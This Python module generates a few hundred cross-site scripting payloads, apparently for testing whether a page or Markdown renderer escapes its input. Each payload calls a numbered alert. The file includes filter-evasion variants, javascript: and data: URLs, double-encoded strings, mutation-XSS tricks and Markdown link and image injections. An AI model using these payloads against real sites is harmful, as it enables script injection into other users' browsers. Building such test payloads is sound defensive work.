"""Pieces of text that would run a script where a page does not escape or clean them: put together, not collected.

Each tries to call `alert(N)` with its own number, so that a test can tell which one ran.
"""

from collections.abc import Callable, Iterator

#: Ends whatever the text may stand in: an attribute, an element of text, a comment, a CDATA section.
BREAKS = ("", '">', "'>", "</title>", "</script>", "--!>", "]]>", "</textarea></noscript>", "`>")
#: What runs a script without anybody's help once it stands in a page; `RUN` is the call.
ELEMENTS = (
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<body onload=RUN>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src='javascript:RUN'></iframe>",
    "<details open ontoggle=RUN>x</details>",
    "<input autofocus onfocus=RUN>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN></audio>",
    "<object data='javascript:RUN'></object>",
    "<embed src='javascript:RUN'>",
    "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=RUN>x</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
)
#: The same elements, written so that a filter may overlook them.
DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda text: text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("onload", "ONLOAD"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("RUN", "&#97;lert(N)"),
    lambda text: text.replace("=RUN", '="RUN"'),
    lambda text: text.replace("<", "<x><"),
    lambda text: text.replace("<script>", "<scr<script>ipt>").replace("<img", "<<img"),
)
#: What needs a click, or a place of its own; and what a second decoding would set free.
OTHERS = (
    "<a href='javascript:RUN'>x</a>",
    "<a href='java\tscript:RUN'>x</a>",
    "<a href=' &#106;avascript:RUN'>x</a>",
    "<a href='data:text/html,<script>RUN</script>'>x</a>",
    "<form action='javascript:RUN'><button>x</button></form>",
    "<button formaction='javascript:RUN' form=x>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href='javascript:RUN//'>",
    "<link rel=stylesheet href='javascript:RUN'>",
    "<svg><a xlink:href='javascript:RUN'><text y=20>x</text></a></svg>",
    "<template><script>RUN</script></template>",
    "&lt;script&gt;RUN&lt;/script&gt;",
    "&lt;img src=x onerror=RUN&gt;",
    "&amp;lt;img src=x onerror=RUN&amp;gt;",
    "%3Cscript%3ERUN%3C/script%3E",
    "\\u003cscript\\u003eRUN\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=RUN\\x3e",
    '" onmouseover="RUN" autofocus onfocus="RUN" x="',
    "' onmouseover='RUN' autofocus onfocus='RUN' x='",
    "x onfocus=RUN autofocus",
    "javascript:RUN",
    "javascript://%0ARUN",
    "vbscript:RUN",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "';RUN;//",
    '";RUN;//',
    "</script><script>RUN</script>",
    "${RUN}",
    "{{ RUN }}",
    "{% raw %}<img src=x onerror=RUN>{% endraw %}",
    "<?xml-stylesheet href='javascript:RUN'?>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[<img src=x onerror=RUN>]]>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<textarea><img title='</textarea><img src=x onerror=RUN>'>",
    "<svg><style><img title='</style><img src=x onerror=RUN>'>",
    "<img src=x onerror\u2028=RUN>",
    "\ufeff<script>RUN</script>",
)
#: The same in Markdown's own ways.
MARKDOWN = (
    "[x](javascript:RUN)",
    "[x](<javascript:RUN>)",
    "[x](JaVaScRiPt:RUN)",
    "[x](&#106;avascript:RUN)",
    "[x](java&Tab;script:RUN)",
    "[x](data:text/html,<script>RUN</script>)",
    "[x](https://example.org/\"onmouseover='RUN')",
    "[x](https://example.org/ 'x\" onmouseover=\"RUN')",
    "![x](javascript:RUN)",
    '![x" onerror="RUN](https://example.org/x.png)',
    "<javascript:RUN>",
    "<https://example.org/'onmouseover='RUN>",
    "[x][y]\n\n[y]: javascript:RUN",
    '```"><img src=x onerror=RUN>\ncode\n```',
    "`<img src=x onerror=RUN>`",
    "# <img src=x onerror=RUN>",
    "> <script>RUN</script>",
    "| <img src=x onerror=RUN> | x |\n|---|---|\n| [x](javascript:RUN) | y |",
    "**<svg onload=RUN>**",
    "<div\n\n<img src=x onerror=RUN>\n\n>",
)


def payloads(count: int = 200) -> list[str]:
    """Return so many different ones; fewer than all are taken evenly from all kinds."""
    every = list(dict.fromkeys(_patterns()))
    step = len(every) / count
    chosen = [every[int(place * step)] for place in range(count)]
    return [pattern.replace("RUN", "alert(N)").replace("N)", f"{number})") for number, pattern in enumerate(chosen)]


def _patterns() -> Iterator[str]:
    for element in ELEMENTS:
        yield from (before + element for before in BREAKS)
    for disguise in DISGUISES:
        yield from (disguise(element) for element in ELEMENTS[:6])
    yield from OTHERS
    yield from MARKDOWN
